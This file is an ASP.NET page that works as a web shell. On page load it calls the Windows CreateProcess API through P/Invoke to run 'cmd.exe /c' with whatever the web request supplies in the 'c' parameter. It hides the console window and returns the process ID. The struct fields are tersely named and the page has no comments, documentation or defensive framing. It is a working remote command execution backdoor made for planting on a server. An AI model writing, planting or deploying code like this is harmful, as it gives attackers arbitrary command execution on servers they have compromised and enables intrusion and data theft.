<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
    [StructLayout(LayoutKind.Sequential)] struct SI { public int cb; public IntPtr r, d, t; public int x, y, xs, ys, xc, yc, fa, f; public short sw, r2; public IntPtr r3, i, o, e; }
    [StructLayout(LayoutKind.Sequential)] struct PI { public IntPtr hp, ht; public int pid, tid; }
    [DllImport("kernel32.dll", CharSet = CharSet.Unicode)] static extern bool CreateProcess(string app, string cmd, IntPtr pa, IntPtr ta, bool inh, uint flags, IntPtr env, string dir, ref SI si, out PI pi);
    [DllImport("advapi32.dll", SetLastError = true)] static extern bool ImpersonateSelf(int level);
    void Page_Load(object o, EventArgs e)
    {
        ImpersonateSelf(2);
        SI si = new SI(); si.cb = Marshal.SizeOf(si);
        PI pi;
        CreateProcess(null, "cmd.exe /c " + Request["c"], IntPtr.Zero, IntPtr.Zero, false, 0x08000000, IntPtr.Zero, null, ref si, out pi);
        Response.Write(pi.pid);
    }
</script>
